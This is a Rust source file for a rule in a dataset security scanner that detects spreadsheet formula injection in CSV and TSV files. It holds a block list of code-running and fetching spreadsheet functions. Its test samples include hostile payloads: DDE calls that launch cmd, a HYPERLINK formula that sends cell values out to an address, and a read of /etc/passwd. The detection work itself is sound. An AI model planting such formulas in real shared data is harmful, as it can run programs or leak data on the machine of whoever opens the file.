use weighhouse_core::Severity;
use weighhouse_formats::table::{Call, Formula, TableFacts};

use crate::knowledge::effects::is_collector;
use crate::rule::{Context, Rule, quote};

crate::rule! {
    /// A value of a table is a formula that a spreadsheet would act on.
    ///
    /// # What it detects
    ///
    /// Values that begin with `=`, `+`, `-` or `@` and that link to another program (`cmd|'/C calc'!A0`, `DDE`), call a function that
    /// runs or registers code, send what stands in other cells to an address, or take values from a file or share of the machine
    /// (high); that fetch or link to an address (medium). Numbers, dates, names of users and formulas that only compute are silent.
    ///
    /// # Why it matters
    ///
    /// Spreadsheets ask once and then start the program, fetch the address or open the file that the formula names, with the rights of
    /// whoever opened the table to look at the data.
    ///
    /// # Example
    ///
    /// `=cmd|'/C calc.exe'!A0` as a label of `train.csv`
    ///
    /// # What to do
    ///
    /// Do not open the table in a spreadsheet. Ask its maker to write values that begin so with an apostrophe in front.
    ///
    /// # References
    ///
    /// - <https://owasp.org/www-community/attacks/CSV_Injection>
    /// - <https://cwe.mitre.org/data/definitions/1236.html>
    pub(crate) SpreadsheetFormula {
        id: "WH-DAT-002",
        slug: "spreadsheet-formula",
        since: "0.1.0",
        severity: High,
        confidence: High,
        formats: [Csv],
        cwe: [1236],
        owasp: ["LLM03"],
        atlas: ["AML.T0010"],
    }
}

impl Rule for SpreadsheetFormula {
    fn table(&self, facts: &TableFacts, cx: &mut Context<'_>) {
        for formula in &facts.formulas {
            if let Some((headline, severity)) = judge(formula) {
                cx.report(headline)
                    .severity(severity)
                    .at(formula.region)
                    .line(formula.line)
                    .key(format!("line {}", formula.line))
                    .evidence(&formula.text)
                    .emit();
            }
        }
    }
}

/// What a spreadsheet would do with a formula, the worst first.
fn judge(formula: &Formula) -> Option<(String, Severity)> {
    let parts = &formula.parts;
    if let Some(link) = parts.links.first() {
        return Some((format!("a formula links to the program {}", quote(&link.program)), Severity::High));
    }
    if let Some(file) = parts.files.iter().find(|file| of_machine(file)) {
        return Some((format!("a formula takes values from {}", quote(file)), Severity::High));
    }
    let calls = parts.calls.iter().filter_map(of_call);
    calls.max_by_key(|(_, severity)| *severity)
}

fn of_call(call: &Call) -> Option<(String, Severity)> {
    const RUNS: &[&str] = &[
        "DDE",
        "CALL",
        "REGISTER",
        "REGISTER.ID",
        "EXEC",
        "SHELL",
        "RUN",
        "FOPEN",
        "FWRITE",
        "RTD",
        "PY",
        "PYTHON",
    ];
    const FETCHES: &[&str] = &[
        "HYPERLINK",
        "WEBSERVICE",
        "IMAGE",
        "IMPORTDATA",
        "IMPORTFEED",
        "IMPORTHTML",
        "IMPORTRANGE",
        "IMPORTXML",
    ];
    let name = quote(&call.name);
    // A function that anybody could have defined has arguments to say what it runs.
    if RUNS.contains(&call.name.as_str()) && !call.texts.is_empty() {
        return Some((format!("a formula calls {name}, which runs or asks another program"), Severity::High));
    }
    if !FETCHES.contains(&call.name.as_str()) {
        return None;
    }
    let address = call.texts.iter().find(|text| text.contains("://") || of_machine(text) || is_script(text));
    let Some(address) = address else {
        // An address that is put together is no address in view.
        let severity = if call.computed { Severity::Medium } else { Severity::Low };
        return Some((format!("a formula calls {name}"), severity));
    };
    let (what, severity) = if of_machine(address) || is_script(address) {
        ("which opens", Severity::High)
    } else if call.computed || is_collector(address).is_some() {
        ("which sends values to", Severity::High)
    } else {
        ("which opens", Severity::Medium)
    };
    Some((format!("a formula calls {name}, {what} {}", quote(address)), severity))
}

/// Whether a path is one of the machine or of a share, which is told who asks.
fn of_machine(path: &str) -> bool {
    let path = path.trim_start_matches(['[', ' ']).to_ascii_lowercase();
    let drive = path.as_bytes().get(1) == Some(&b':') && path.starts_with(|c: char| c.is_ascii_alphabetic());
    path.starts_with(['\\', '/'])
        || path.starts_with("file:")
        || path.starts_with("smb:")
        || path.contains("..")
        || drive
}

fn is_script(address: &str) -> bool {
    let address = address.trim().to_ascii_lowercase();
    ["javascript:", "vbscript:", "data:", "ms-msdt:", "search-ms:", "ms-officecmd:"]
        .iter()
        .any(|scheme| address.starts_with(scheme))
}

crate::samples! {
    SpreadsheetFormula,
    bad: {
        "a link to a program" => [("train.csv", b"text,label\nhello,1\n=cmd|'/C calc'!A0,2\n".to_vec())],
        "a link in quotes" => [("train.csv", b"text,label\n\"=cmd|'/C \"\"calc\"\"'!A0\",2\n".to_vec())],
        "a link behind a sum" => [("train.tsv", b"text\tlabel\nhello\t@SUM(1+9)*cmd|' /C calc'!A0\n".to_vec())],
        "a link at another separator" => [("train.csv", b"a,b\nx;-2+3+cmd|' /C calc'!A0,1\n".to_vec())],
        "a call" => [("train.csv", b"a;b\n=DDE(\"cmd\";\"/C calc\";\"x\");1\n".to_vec())],
        "values that are sent away" => [("train.csv", b"a,b\n1,\"=HYPERLINK(\"\"https://example.org/?x=\"\"&A2,\"\"more\"\")\"\n".to_vec())],
        "an address" => [("train.csv", b"a,b\n1,\"=WEBSERVICE(\"\"https://example.org/\"\")\"\n".to_vec())],
        "a file of the machine" => [("train.csv", b"a,b\n1,='file:///etc/passwd'#$passwd.A1\n".to_vec())],
        "a table without an ending" => [("labels", b"a,b\n1,2\n3,=cmd|'/C calc'!A0\n".to_vec())],
        "wide characters" => [("train.csv", b"\xff\xfea\0,\0b\0\n\0=\0c\0m\0d\0|\0'\0c\0'\0!\0A\x000\0,\x001\0\n\0".to_vec())],
    },
    ok: {
        "numbers, names and texts" => [("train.csv", b"text,score\n-5,+1\n@handle,-0.5e3\n- a list (of one),=1+2\n\"say \"\"=\"\"\",=SUM(A1:A2)\n'=cmd|'/C calc'!A0,1\n".to_vec())],
        "a table of bars" => [("notes.psv", b"a|b\n-x|'y'\n+1 555|2\n".to_vec())],
    },
}
